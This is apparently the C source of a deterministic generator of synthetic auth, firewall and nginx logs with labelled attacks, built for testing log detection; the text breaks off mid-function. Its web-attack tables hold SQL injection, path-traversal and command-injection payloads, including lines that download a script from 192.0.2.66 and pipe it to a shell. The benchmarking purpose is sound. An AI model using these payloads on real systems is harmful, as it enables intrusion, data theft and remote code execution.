/*
 * hikeshi-gen.c - deterministic synthetic log load with labelled attacks.
 *
 * Writes a time-ordered mix of auth.log, kern.log (netfilter) and nginx
 * access.log lines, benign noise plus injected attacks, and optionally a
 * ground-truth file naming every attack, its entity, time window and the
 * lines it occupies.  The same options give the same bytes on any machine:
 * all randomness comes from our own xoshiro256** seeded by splitmix64, and
 * nothing depends on the host's clock, locale or libc rand().
 *
 * How: plan every record first (time, kind, owning "unit" such as one SSH
 * session or one attack, and a private random word), sort them by time,
 * then render.  Rendering a record draws only from its own random word, so
 * a line's text does not depend on where the sort put it.  Line numbers of
 * the attacks are known after the sort, which is what the truth file needs.
 *
 * See bench/README.md for the options and the truth format.
 */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "event/time.h"

#define US 1000000LL
#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

/* --- randomness --- */

static uint64_t splitmix64(uint64_t *s)
{
    uint64_t z = (*s += 0x9e3779b97f4a7c15ULL);

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

struct rng {
    uint64_t s[4];
};

static uint64_t rotl(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

/* xoshiro256** (Blackman and Vigna, public domain algorithm). */
static uint64_t rng_next(struct rng *r)
{
    uint64_t res = rotl(r->s[1] * 5, 7) * 9, t = r->s[1] << 17;

    r->s[2] ^= r->s[0];
    r->s[3] ^= r->s[1];
    r->s[1] ^= r->s[2];
    r->s[0] ^= r->s[3];
    r->s[2] ^= t;
    r->s[3] = rotl(r->s[3], 45);
    return res;
}

static void rng_seed(struct rng *r, uint64_t seed)
{
    for (int i = 0; i < 4; i++)
        r->s[i] = splitmix64(&seed);
}

/* Uniform in [0, n); n > 0.  The multiply-shift bias is below 2^-32 here. */
static uint64_t rng_below(struct rng *r, uint64_t n)
{
    return (uint64_t)(((unsigned __int128)rng_next(r) * n) >> 64);
}

/* Uniform in [lo, hi]. */
static int64_t rng_range(struct rng *r, int64_t lo, int64_t hi)
{
    return lo + (int64_t)rng_below(r, (uint64_t)(hi - lo + 1));
}

static double rng_unit(struct rng *r)
{
    return (double)(rng_next(r) >> 11) * (1.0 / 9007199254740992.0);
}

/* Per-record draws: a splitmix64 stream from the record's own word. */
static uint64_t lr_next(uint64_t *s)
{
    return splitmix64(s);
}

static uint64_t lr_below(uint64_t *s, uint64_t n)
{
    return (uint64_t)(((unsigned __int128)lr_next(s) * n) >> 64);
}

/* --- the world: hosts, users, addresses --- */

enum host {
    H_BASTION,
    H_APP01,
    H_APP02,
    H_DB01,
    H_WEB01,
    H_WEB02,
    H_FW01,   /* edge firewall: internet <-> DMZ and offices */
    H_COREFW, /* internal firewall between office segments */
    H_N,
};

static const char *const host_names[H_N] = {"bastion", "app01", "app02", "db01",
                                             "web01",   "web02", "fw01",  "corefw"};

struct user {
    const char *name;
    unsigned uid;
    int admin; /* in sudoers */
};

/* Index 8, root, is only ever a brute-force target. */
static const struct user users[] = {
    {"alice", 1000, 1}, {"bob", 1001, 1},    {"carol", 1002, 1}, {"dave", 1003, 0},
    {"erin", 1004, 0},  {"frank", 1005, 0},  {"deploy", 1006, 0}, {"grace", 1007, 0},
    {"root", 0, 1},
};
#define USER_BENIGN_N 8
#define USER_ROOT 8
#define USER_DEPLOY 6

/* Names brute forcers try that do not exist on our hosts. */
static const char *const bf_names[] = {
    "admin",  "test",     "user",    "oracle", "postgres", "ubuntu",        "guest",
    "ftpuser", "pi",      "support", "git",    "mysql",    "hadoop",        "nagios",
    "tomcat", "operator", "www",     "debian", "minecraft", "administrator", "backup1",
    "ansible", "jenkins", "steam",
};

static uint32_t ip4(unsigned a, unsigned b, unsigned c, unsigned d)
{
    return (uint32_t)a << 24 | (uint32_t)b << 16 | (uint32_t)c << 8 | (uint32_t)d;
}

/*
 * Address plan.  Benign traffic never uses an attack address, so an attack
 * is identifiable by its entity alone (check-truth.py relies on that):
 *   10.0.1.0/24    DMZ servers (scan targets, firewall noise targets)
 *   10.0.3.0/24    worm patient zero        10.0.20.0/22  worm targets
 *   10.0.5.0/24    beaconing hosts          10.0.10.0/23  staff workstations
 *   10.0.30.5      CI runner (deploy user)
 *   198.18.0.0/15  benign internet (RFC 2544 benchmark range, volume)
 *   203.0.113.0/24, 192.0.2.0/24  attackers (documentation ranges)
 *   198.51.100.0/24  command-and-control destinations
 */
static uint32_t user_ws_ip(unsigned user)
{
    return user == USER_DEPLOY ? ip4(10, 0, 30, 5) : ip4(10, 0, 10, 20 + user);
}

static uint32_t benign_inet_ip(struct rng *r)
{
    return ip4(198, 18, 0, 0) + 1 + (uint32_t)rng_below(r, 131070);
}

/* --- records and units --- */

enum kind {
    /* sshd */
    K_SSH_ACCEPT_PK,
    K_SSH_ACCEPT_PW,
    K_SSH_SESS_OPEN,
    K_SSH_RECV_DISC,
    K_SSH_DISCONNECTED,
    K_SSH_SESS_CLOSE,
    K_SSH_PAM_FAIL_USER,
    K_SSH_PAM_FAIL_NOUSER,
    K_SSH_CHECKPASS_UNKNOWN,
    K_SSH_INVALID_USER,
    K_SSH_FAILED_VALID,
    K_SSH_FAILED_INVALID,
    K_SSH_CLOSED_INVALID,
    K_SSH_CLOSED_AUTH,
    K_SSH_PAM_MORE_USER,
    K_SSH_PAM_MORE_NOUSER,
    /* systemd-logind, systemd */
    K_LOGIND_NEW,
    K_LOGIND_LOGOUT,
    K_LOGIND_REMOVED,
    K_SD_SESSION_SCOPE,
    K_SD_STARTING,
    K_SD_DEACTIVATED,
    K_SD_CONSUMED,
    K_SD_FINISHED,
    /* cron */
    K_CRON_OPEN,
    K_CRON_CMD,
    K_CRON_CLOSE,
    /* sudo */
    K_SUDO_CMD,
    K_SUDO_OPEN,
    K_SUDO_CLOSE,
    K_SUDO_PAM_FAIL,
    K_SUDO_INCORRECT,
    K_SUDO_NOT_SUDOERS,
    /* kernel netfilter */
    K_NF,
    /* nginx access */
    K_WEB,
    /* Suricata EVE alert relayed through syslog (--ids-noise) */
    K_IDS,
};

/* Flavours of netfilter line (rec.a for K_NF). */
enum nf_flavour {
    NF_IN_NOISE_TCP, /* inbound internet noise, blocked */
    NF_IN_NOISE_UDP,
    NF_IN_NOISE_ICMP,
    NF_IN_SCAN,      /* scanner SYN: LEN=44, WINDOW=1024, no DF */
    NF_OUT_ALLOW,    /* office to internet, allowed and logged */
    NF_WORM,         /* SMB/RPC between office segments, on corefw */
    NF_BEACON,       /* implant calling home, allowed */
};

/*
 * One record, 32 bytes; 1M of them is 32 MB.  `rnd` seeds the record's own
 * draws at render time.
 */
struct rec {
    int64_t t_us;
    uint64_t rnd;
    uint32_t seq; /* planning order: the tie-break that keeps the sort stable */
    uint32_t unit;
    uint32_t b;
    uint16_t kind;
    uint16_t a;
};

/* What the lines of one session, cron run, page view or attack share. */
struct unit {
    uint32_t src, dst;
    uint32_t pid;
    uint32_t sess;
    uint32_t aux;
    uint16_t port;
    uint8_t host, user, ua, http2;
    int32_t truth; /* index into gen.truth, or -1 */
};

enum atype {
    AT_SSH_BF,
    AT_SSH_BF_OK,
    AT_SCAN_V,
    AT_SCAN_H,
    AT_WORM,
    AT_BEACON,
    AT_SQLI,
    AT_TRAV,
    AT_CMDI,
    AT_SCANNER,
    AT_SUDO,
    AT_N,
};

static const char *const atype_names[AT_N] = {
    "ssh_bruteforce", "ssh_bruteforce_success", "port_scan_vertical", "port_scan_horizontal",
    "worm",           "beacon",                 "web_sqli",           "web_traversal",
    "web_cmdi",       "web_scanner",            "sudo_abuse",
};

/* MISSION.md section 2, internal incident types. */
static const char *const atype_incident[AT_N] = {
    "probe or attack without damage", /* one-off brute force */
    "intruded, no damage yet",        /* the attacker now has a shell */
    "probe or attack without damage", /* port scans */
    "probe or attack without damage",
    "damage manifest",                /* our host infected, spreading inside */
    "intruded, no damage yet",        /* implant calling home */
    "probe or attack without damage", /* web attacks from outside */
    "probe or attack without damage",
    "probe or attack without damage",
    "probe or attack without damage",
    "policy violation",               /* staff trying root without the right */
};

struct truth {
    enum atype type;
    uint32_t ip1, ip2;
    unsigned port;
    unsigned user, host;
    int parent; /* worm: the truth index of the host that infected this one */
    uint64_t first_line, last_line, records;
    int64_t first_us, last_us;
    unsigned id; /* assigned in order of first line */
};

enum fmt { FMT_FILE, FMT_SYSLOG };

/* Benign categories and their default share of the benign lines (percent). */
enum cat { C_WEB, C_SSH, C_CRON, C_SUDO, C_FW, C_SYSTEMD, C_N };
static const char *const cat_names[C_N] = {"web", "ssh", "cron", "sudo", "fw", "systemd"};
/* Average lines per unit, to turn a share of lines into a unit probability. */
static const double cat_unit_lines[C_N] = {3.0, 9.0, 3.0, 3.2, 1.0, 3.6};

struct gen {
    struct rng rng;
    uint64_t seed;
    uint64_t nrec;
    int64_t start_us, span_us;
    enum fmt fmt;
    double mix[C_N];
    double attack_scale;

    struct rec *recs;
    uint64_t nrecs;
    struct unit *units;
    uint64_t nunits, cap_units;
    struct truth *truth;
    size_t ntruth, cap_truth;

    uint32_t pid_counter;
    uint32_t atk_ips[508]; /* 203.0.113.1-254, 192.0.2.1-254, shuffled */
    size_t natk_ips;
    uint32_t c2_ips[254];
    size_t nc2_ips;
    /* Hosts already given a beacon: each infected host beacons to one C2,
     * since two beacons on one host are one intrusion to a CSIRT and the
     * truth could not tell them apart. */
    uint32_t beacon_hosts[64];
    size_t nbeacon_hosts;
    uint8_t sudo_pairs[24]; /* (abuser, host) pairs, shuffled */
    size_t nsudo_pairs;
    int64_t boot_us[H_N]; /* for the kernel's uptime stamp */
    double size_factor;   /* attack sizes scale with --records, 0.1 .. 1 */
    int overflow;
    /* Harder days (off by default: without them the bytes are those of
     * earlier versions, draw for draw). */
    int encoded_web; /* --encoded-web: percent-encoded and servlet payloads */
    int browser_ua;  /* --browser-ua: web attacks with ordinary browser agents */
    int sudo_guess;  /* --sudo-guess: sudo abuse as password guessing, no "NOT in sudoers" */
    double ids_pct;  /* --ids-noise PCT: about PCT % of the lines are IDS policy alerts */
};

/*
 * Process ids: a bijection of a counter onto [1000, 4194304) (systemd sets
 * pid_max to 4194304), so they look random but never repeat.  Attack lines
 * are then traceable by pid, as an analyst would trace them.
 */
static uint32_t new_pid(struct gen *g)
{
    const uint64_t span = 4194304 - 1000;

    return 1000 + (uint32_t)(((uint64_t)g->pid_counter++ * 2654435761ULL + 7919) % span);
}

static uint32_t new_unit(struct gen *g)
{
    struct unit *u;

    if (g->nunits == g->cap_units) {
        size_t cap = g->cap_units ? g->cap_units * 2 : 4096;
        struct unit *n = realloc(g->units, cap * sizeof(*n));
        if (!n) {
            fprintf(stderr, "hikeshi-gen: out of memory\n");
            exit(1);
        }
        g->units = n;
        g->cap_units = cap;
    }
    u = &g->units[g->nunits];
    memset(u, 0, sizeof(*u));
    u->truth = -1;
    return (uint32_t)g->nunits++;
}

/* Adds a record if it falls inside the span and there is room; returns 1 if added. */
static int add(struct gen *g, int64_t t_us, enum kind k, uint32_t unit, unsigned a, uint32_t b)
{
    struct rec *r;

    if (t_us < g->start_us || t_us >= g->start_us + g->span_us)
        return 0;
    if (g->nrecs >= g->nrec) {
        g->overflow = 1;
        return 0;
    }
    r = &g->recs[g->nrecs];
    r->t_us = t_us;
    r->rnd = rng_next(&g->rng);
    r->seq = (uint32_t)g->nrecs;
    r->unit = unit;
    r->b = b;
    r->kind = (uint16_t)k;
    r->a = (uint16_t)a;
    g->nrecs++;
    return 1;
}

static int new_truth(struct gen *g, enum atype type)
{
    struct truth *t;

    if (g->ntruth == g->cap_truth) {
        size_t cap = g->cap_truth ? g->cap_truth * 2 : 64;
        struct truth *n = realloc(g->truth, cap * sizeof(*n));
        if (!n) {
            fprintf(stderr, "hikeshi-gen: out of memory\n");
            exit(1);
        }
        g->truth = n;
        g->cap_truth = cap;
    }
    t = &g->truth[g->ntruth];
    memset(t, 0, sizeof(*t));
    t->type = type;
    t->parent = -1;
    return (int)g->ntruth++;
}

static uint32_t take_atk_ip(struct gen *g)
{
    /* Wraps only beyond 508 attacks; --records would need to be ~20M. */
    return g->atk_ips[g->natk_ips++ % NELEM(g->atk_ips)];
}

/* Start of a window of length dur inside the span. */
static int64_t window_start(struct gen *g, int64_t dur)
{
    int64_t room = g->span_us - dur;

    if (room <= 0)
        return g->start_us;
    return g->start_us + (int64_t)rng_below(&g->rng, (uint64_t)room);
}

static int64_t scaled(struct gen *g, int64_t lo, int64_t hi, int64_t min)
{
    int64_t n = (int64_t)((double)rng_range(&g->rng, lo, hi) * g->size_factor);

    return n < min ? min : n;
}

/* Local hour activity: offices and shoppers are busier by day. */
static double diurnal(struct gen *g, int64_t t_us)
{
    static const double w[24] = {0.30, 0.25, 0.22, 0.20, 0.20, 0.25, 0.35, 0.55,
                                 0.80, 0.95, 1.00, 1.00, 0.95, 1.00, 1.00, 0.95,
                                 0.90, 0.85, 0.80, 0.75, 0.70, 0.60, 0.50, 0.40};
    int64_t h = (t_us / US / 3600) % 24;

    (void)g;
    return w[h < 0 ? h + 24 : h];
}

static int64_t benign_time(struct gen *g)
{
    for (;;) {
        int64_t t = g->start_us + (int64_t)rng_below(&g->rng, (uint64_t)g->span_us);
        if (rng_unit(&g->rng) < diurnal(g, t))
            return t;
    }
}

/* --- attack planning --- */

/*
 * One SSH connection from an attacker: k password attempts for one name,
 * then the disconnect.  Returns the time after it.
 */
static int64_t plan_ssh_conn(struct gen *g, uint32_t unit_id, int64_t t, int valid, unsigned name,
                             int k)
{
    struct unit *u;
    uint32_t pid = new_pid(g);
    uint16_t port = (uint16_t)rng_range(&g->rng, 32768, 60999);
    uint32_t conn = new_unit(g);

    /* One unit per connection (its own pid and port), same truth. */
    u = &g->units[conn];
    *u = g->units[unit_id];
    u->pid = pid;
    u->port = port;
    if (valid) {
        add(g, t, K_SSH_PAM_FAIL_USER, conn, name, 0);
    } else {
        add(g, t, K_SSH_INVALID_USER, conn, name, 0);
        t += rng_range(&g->rng, 1000, 200000);
        add(g, t, K_SSH_CHECKPASS_UNKNOWN, conn, name, 0);
        add(g, t + 50, K_SSH_PAM_FAIL_NOUSER, conn, name, 0);
    }
    for (int i = 0; i < k; i++) {
        t += rng_range(&g->rng, 1500000, 3200000); /* pam_faildelay ~2 s */
        add(g, t, valid ? K_SSH_FAILED_VALID : K_SSH_FAILED_INVALID, conn, name, 0);
    }
    t += rng_range(&g->rng, 100000, 1500000);
    add(g, t, valid ? K_SSH_CLOSED_AUTH : K_SSH_CLOSED_INVALID, conn, name, 0);
    if (k > 1)
        add(g, t + 200, valid ? K_SSH_PAM_MORE_USER : K_SSH_PAM_MORE_NOUSER, conn, name,
            (uint32_t)(k - 1));
    return t;
}

static void plan_ssh_bruteforce(struct gen *g, int success)
{
    int ti = new_truth(g, success ? AT_SSH_BF_OK : AT_SSH_BF);
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t nconn = success ? scaled(g, 20, 80, 6) : scaled(g, 40, 150, 8);
    double per_min = (double)rng_range(&g->rng, 20, 60); /* attempts per minute */
    int64_t dur = (int64_t)((double)nconn * 2.0 / per_min * 60.0 * US) + 120 * US;
    int64_t t;
    unsigned victim = (unsigned)(rng_below(&g->rng, 3) == 0 ? 5 : 6 + rng_below(&g->rng, 2));

    if (dur > g->span_us / 2)
        dur = g->span_us / 2;
    u->src = take_atk_ip(g);
    u->host = rng_below(&g->rng, 3) ? H_BASTION : H_WEB01;
    u->truth = ti;
    g->truth[ti].ip1 = u->src;
    g->truth[ti].host = u->host;
    g->truth[ti].user = victim;
    t = window_start(g, dur);
    for (int64_t c = 0; c < nconn; c++) {
        int valid = rng_below(&g->rng, 10) < 3;
        unsigned name;
        int k = (int)rng_range(&g->rng, 1, 3);
        int64_t end;

        if (success && c + 3 >= nconn) {
            valid = 1; /* the last tries home in on the account that falls */
            name = victim;
        } else {
            name = valid ? USER_ROOT : (unsigned)rng_below(&g->rng, NELEM(bf_names));
        }
        end = plan_ssh_conn(g, uid, t, valid, name, k);
        /* Next connection at the attempt rate, a few in flight at once. */
        t += (int64_t)((double)k * 60.0 / per_min * US * (0.5 + rng_unit(&g->rng)));
        if (t < end - 6 * US)
            t = end - 6 * US;
    }
    if (success) {
        uint32_t conn = new_unit(g);
        struct unit *cu = &g->units[conn];

        *cu = g->units[uid];
        cu->pid = new_pid(g);
        cu->port = (uint16_t)rng_range(&g->rng, 32768, 60999);
        cu->user = (uint8_t)victim;
        t += rng_range(&g->rng, 2 * US, 20 * US);
        add(g, t, K_SSH_ACCEPT_PW, conn, victim, 0);
        add(g, t + 20000, K_SSH_SESS_OPEN, conn, victim, 0);
    }
}

static void plan_scan_vertical(struct gen *g)
{
    static uint16_t ports[1024 + 16];
    static const uint16_t extra[] = {1433, 1521, 2049, 2375, 3306, 3389, 5432, 5900,
                                     6379, 8000, 8080, 8443, 9000, 9200, 11211, 27017};
    size_t np = 0;
    int ti = new_truth(g, AT_SCAN_V);
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t n = scaled(g, 200, 1000, 40);
    int64_t gap = rng_range(&g->rng, 20000, 400000);
    int64_t t;

    for (unsigned p = 1; p <= 1024; p++)
        ports[np++] = (uint16_t)p;
    for (size_t i = 0; i < NELEM(extra); i++)
        ports[np++] = extra[i];
    if (n > (int64_t)np)
        n = (int64_t)np;
    u->src = take_atk_ip(g);
    u->dst = ip4(10, 0, 1, 10 + (unsigned)rng_below(&g->rng, 40));
    u->host = H_FW01;
    u->port = (uint16_t)rng_range(&g->rng, 33000, 60999); /* nmap keeps one source port */
    u->truth = ti;
    g->truth[ti].ip1 = u->src;
    g->truth[ti].ip2 = u->dst;
    t = window_start(g, n * gap * 2);
    for (int64_t i = 0; i < n; i++) {
        size_t j = (size_t)i + (size_t)rng_below(&g->rng, np - (size_t)i);
        uint16_t tmp = ports[i];

        ports[i] = ports[j];
        ports[j] = tmp;
        add(g, t, K_NF, uid, NF_IN_SCAN, ports[i]);
        t += gap / 2 + (int64_t)rng_below(&g->rng, (uint64_t)gap);
    }
}

static void plan_scan_horizontal(struct gen *g)
{
    static const uint16_t svc[] = {22, 23, 445, 3389, 5900, 6379, 9200, 2375};
    uint8_t hosts[254];
    int ti = new_truth(g, AT_SCAN_H);
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t n = scaled(g, 60, 254, 30);
    int64_t gap = rng_range(&g->rng, 50000, 2000000);
    int64_t t;

    for (unsigned i = 0; i < 254; i++)
        hosts[i] = (uint8_t)(i + 1);
    u->src = take_atk_ip(g);
    u->host = H_FW01;
    u->port = (uint16_t)rng_range(&g->rng, 33000, 60999);
    u->aux = svc[rng_below(&g->rng, NELEM(svc))];
    u->truth = ti;
    g->truth[ti].ip1 = u->src;
    g->truth[ti].port = u->aux;
    t = window_start(g, n * gap * 2);
    for (int64_t i = 0; i < n; i++) {
        size_t j = (size_t)i + (size_t)rng_below(&g->rng, 254 - (size_t)i);
        uint8_t tmp = hosts[i];

        hosts[i] = hosts[j];
        hosts[j] = tmp;
        /* b carries the destination; a the flavour. */
        add(g, t, K_NF, uid, NF_IN_SCAN, ip4(10, 0, 1, hosts[i]));
        t += gap / 2 + (int64_t)rng_below(&g->rng, (uint64_t)gap);
    }
}

/* Sweeps `n` targets of 10.0.20.0/22 from u->src; returns the time a random target was hit. */
static int64_t plan_worm_sweep(struct gen *g, uint32_t uid, int64_t t, int64_t n, uint32_t avoid,
                               uint32_t *ret_victim)
{
    int64_t victim_at = -1;
    int64_t pick = (int64_t)rng_below(&g->rng, (uint64_t)(n / 2 + 1));

    for (int64_t i = 0; i < n; i++) {
        uint32_t dst = ip4(10, 0, 20, 0) + 1 + (uint32_t)rng_below(&g->rng, 1022);
        int nport = (int)rng_range(&g->rng, 1, 3);

        if (dst == avoid || dst == g->units[uid].src)
            dst ^= 1;
        for (int p = 0; p < nport; p++) {
            static const uint16_t wp[] = {445, 139, 135};
            add(g, t, K_NF, uid, NF_WORM, ((uint32_t)wp[p] << 16) | (dst & 0xffff));
            t += rng_range(&g->rng, 1000, 40000);
        }
        if (i == pick && ret_victim) {
            *ret_victim = dst;
            victim_at = t;
        }
        t += rng_range(&g->rng, 200000, 2500000);
    }
    return victim_at;
}

static void plan_worm(struct gen *g)
{
    int t1 = new_truth(g, AT_WORM), t2;
    uint32_t u1 = new_unit(g), u2;
    int64_t n1 = scaled(g, 80, 250, 25), n2 = scaled(g, 40, 150, 15);
    int64_t t, hit;
    uint32_t victim = 0;

    g->units[u1].src = ip4(10, 0, 3, 10 + (unsigned)rng_below(&g->rng, 200));
    g->units[u1].host = H_COREFW;
    g->units[u1].truth = t1;
    g->truth[t1].ip1 = g->units[u1].src;
    t = window_start(g, (n1 + n2) * 3 * US + 600 * US);
    hit = plan_worm_sweep(g, u1, t, n1, 0, &victim);
    t2 = new_truth(g, AT_WORM);
    u2 = new_unit(g);
    g->units[u2].src = victim;
    g->units[u2].host = H_COREFW;
    g->units[u2].truth = t2;
    g->truth[t2].ip1 = victim;
    g->truth[t2].parent = t1;
    plan_worm_sweep(g, u2, hit + rng_range(&g->rng, 60 * US, 300 * US), n2, g->units[u1].src, NULL);
}

static void plan_beacon(struct gen *g)
{
    static const int64_t intervals[] = {60, 60, 60, 120, 300};
    static const uint16_t ports[] = {443, 443, 443, 8443, 80};
    int ti = new_truth(g, AT_BEACON);
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t iv = intervals[rng_below(&g->rng, NELEM(intervals))] * US;
    int64_t dur = (int64_t)((double)rng_range(&g->rng, 2 * 3600, 6 * 3600) * g->size_factor) * US;
    int64_t jitter, t, end;

    if (dur < 3600 * US)
        dur = 3600 * US;
    if (dur > g->span_us / 2)
        dur = g->span_us / 2;
    if (dur < 20 * iv)
        iv = dur / 20 > US ? dur / 20 : US;
    jitter = iv / 20; /* +-5 % */
    /* A host drawn twice is drawn again; the stream moves on only then, so
     * a day without such a draw keeps its bytes. */
    for (int tries = 0;; tries++) {
        size_t k = 0;

        u->src = ip4(10, 0, 5, 10 + (unsigned)rng_below(&g->rng, 200));
        while (k < g->nbeacon_hosts && g->beacon_hosts[k] != u->src)
            k++;
        if (k == g->nbeacon_hosts || tries >= 16)
            break;
    }
    if (g->nbeacon_hosts < NELEM(g->beacon_hosts))
        g->beacon_hosts[g->nbeacon_hosts++] = u->src;
    u->dst = g->c2_ips[g->nc2_ips++ % NELEM(g->c2_ips)];
    u->aux = ports[rng_below(&g->rng, NELEM(ports))];
    u->host = H_FW01;
    u->truth = ti;
    g->truth[ti].ip1 = u->src;
    g->truth[ti].ip2 = u->dst;
    g->truth[ti].port = u->aux;
    t = window_start(g, dur + iv);
    for (end = t + dur; t < end; t += iv - jitter + (int64_t)rng_below(&g->rng, (uint64_t)(2 * jitter + 1)))
        add(g, t, K_NF, uid, NF_BEACON, 0);
}

/* Web payload tables; rec.a for attack requests is WEB_* base + index. */
#define WEB_SQLI 200
#define WEB_TRAV 300
#define WEB_CMDI 400
#define WEB_SCAN 500

static const char *const sqli_paths[] = {
    "/products?id=1%27%20OR%201%3D1--",
    "/products?id=1'+OR+1=1--",
    "/products?id=1+UNION+SELECT+NULL,NULL,NULL--",
    "/products?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%27)%20OR%20(%271%27%3D%271",
    "/login?user=admin%27--&pass=x",
    "/products?id=1%20AND%20SLEEP(5)",
    "/products?id=1;DROP%20TABLE%20users--",
    "/products?id=1'%20AND%20extractvalue(1,concat(0x7e,version()))--",
    "/api/v1/items?sort=name%20UNION%20ALL%20SELECT%20@@version--",
    "/products?id=1%22%20OR%20%22a%22%3D%22a",
    "/search?q=1'%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--",
};

static const char *const trav_paths[] = {
    "/download?file=../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/images/..%252f..%252f..%252fetc%252fpasswd",
    "/download?file=....//....//....//etc/passwd",
    "/view?page=../../../../../../windows/win.ini",
    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/index.php?page=../../../../proc/self/environ",
    "/static/../../../../etc/hosts",
    "/download?file=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
};

static const char *const cmdi_paths[] = {
    "/tools/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/tools/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
    "/cgi-bin/status?ip=10.0.0.1|id",
    "/api/v1/export?name=$(id)",
    "/api/v1/export?name=%24%28wget%20http%3A%2F%2F192.0.2.66%2Fx.sh%20-O-%7Csh%29",
    "/?cmd=;uname%20-a",
    "/tools/dns?domain=example.com%26%26whoami",
    "/upload?name=`id`",
    "/tools/ping?host=;curl%20-s%20http://192.0.2.66/b%20|%20bash",
    "/api/v1/export?name=x%0Acat%20/etc/passwd",
};

/*
 * --encoded-web: what gets past a rule that only knows the plain forms —
 * payloads percent-encoded end to end, quotes closed with %22, CASE WHEN
 * blind injection, servlet path parameters (..;/).  Index WEB_ENC and up.
 */
#define WEB_ENC 50

static const char *const sqli_enc_paths[] = {
    "/products?id=1%27%3B%20DROP%20TABLE%20users--",
    "/login?user=admin'--&pass=x",
    "/search?q=1%22%20or%20%22a%22=%22a",
    "/products?id=1%20AND%20(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END)=1",
    "/products?id=1%20AND%20(SELECT%20CASE%20WHEN%20(ASCII(SUBSTRING(user(),1,1))>64)%20THEN%20SLEEP(3)%20ELSE%200%20END)",
    "/cart?item=3%27%29%3B%20DELETE%20FROM%20orders%3B--",
    "/products?id=1%2527%2520OR%25201%253D1--",
    "/api/v1/items?sort=(CASE%20WHEN%201=1%20THEN%20name%20ELSE%20price%20END)",
};

static const char *const trav_enc_paths[] = {
    "/manager/..;/manager/html",
    "/static/..;/..;/WEB-INF/web.xml",
    "/app/..;/admin/",
    "/images/..;/..;/..;/etc/passwd",
    "/static/%2e%2e;/%2e%2e;/WEB-INF/web.xml",
    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/download?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "/api/v1/..;/actuator/env",
};

static const char *const cmdi_enc_paths[] = {
    "/tools/ping?host=127.0.0.1%3Bid",
    "/tools/ping?host=127.0.0.1%7Cwhoami",
    "/tools/ping?host=%24%28uname%20-a%29",
    "/tools/ping?host=127.0.0.1%0Acurl%20http%3A%2F%2F192.0.2.66%2Fx.sh%7Csh",
    "/cgi-bin/status?ip=10.0.0.1%26%26cat%20%2Fetc%2Fpasswd",
    "/api/v1/export?name=%60id%60",
};

static const char *const scan_paths[] = {
    "/.env",           "/.git/config",      "/wp-login.php",        "/phpmyadmin/index.php",
    "/admin/",         "/server-status",    "/cgi-bin/test-cgi",    "/backup.zip",
    "/config.php.bak", "/HNAP1/",           "/.DS_Store",           "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",          "/solr/admin/info/system",
    "/manager/html",   "/.svn/entries",     "/web.config",          "/xmlrpc.php",
    "/console/",       "/owa/auth/logon.aspx", "/.aws/credentials", "/db.sql",
    "/",               "/robots.txt",
};

static const char *const attack_uas[] = {
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36"),
    "Wget/1.21.3",
};

/* browser_uas[] below: the first UA_BOTS_FROM are browsers, then crawlers. */
#define UA_BOTS_FROM 12

static const char *const scanner_uas[] = {
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
};

static void plan_web_attack(struct gen *g, enum atype type)
{
    int ti = new_truth(g, type);
    uint32_t uid = new_unit(g);
    struct unit *u = &g->units[uid];
    int64_t n, gap, t;
    unsigned base, npaths;

    switch (type) {
    case AT_SQLI:
        n = scaled(g, 20, 120, 8), base = WEB_SQLI, npaths = NELEM(sqli_paths);
        if (g->encoded_web)
            base += WEB_ENC, npaths = NELEM(sqli_enc_paths);
        break;
    case AT_TRAV:
        n = scaled(g, 15, 80, 6), base = WEB_TRAV, npaths = NELEM(trav_paths);
        if (g->encoded_web)
            base += WEB_ENC, npaths = NELEM(trav_enc_paths);
        break;
    case AT_CMDI:
        n = scaled(g, 10, 60, 5), base = WEB_CMDI, npaths = NELEM(cmdi_paths);
        if (g->encoded_web)
            base += WEB_ENC, npaths = NELEM(cmdi_enc_paths);
        break;
    default:
        n = scaled(g, 200, 1500, 40), base = WEB_SCAN, npaths = NELEM(scan_paths);
        break;
    }
    gap = type == AT_SCANNER ? rng_range(&g->rng, 50000, 600000) : rng_range(&g->rng, 300000, 4000000);
    u->src = take_atk_ip(g);
    u->host = rng_below(&g->rng, 2) ? H_WEB01 : H_WEB02;
    /* Scanners: mostly Nikto; the web attacks use tooling or a faked browser. */
    if (type == AT_SCANNER)
        u->ua = (uint8_t)(rng_below(&g->rng, 10) < 7 ? 0 : 1 + rng_below(&g->rng, 2));
    else if (g->browser_ua)
        u->ua = (uint8_t)rng_below(&g->rng, UA_BOTS_FROM); /* a browser's, not a tool's */
    else
